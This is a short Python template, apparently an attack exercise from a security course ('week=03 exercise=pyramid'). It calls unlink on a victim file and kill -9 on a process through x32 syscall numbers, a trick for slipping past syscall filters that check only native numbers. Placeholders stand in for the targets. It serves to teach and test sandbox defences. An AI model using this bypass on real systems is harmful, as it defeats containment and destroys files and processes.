"""Makes system calls by x32 numbers, which are 64-bit calls under another name."""
# attack: week=03 exercise=pyramid
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
X32 = 0x40000000
print(libc.syscall(X32 + @SYS:unlink@, b"@VICTIM@"), os.strerror(ctypes.get_errno()))
print(libc.syscall(X32 + @SYS:kill@, @PID@, 9), os.strerror(ctypes.get_errno()))
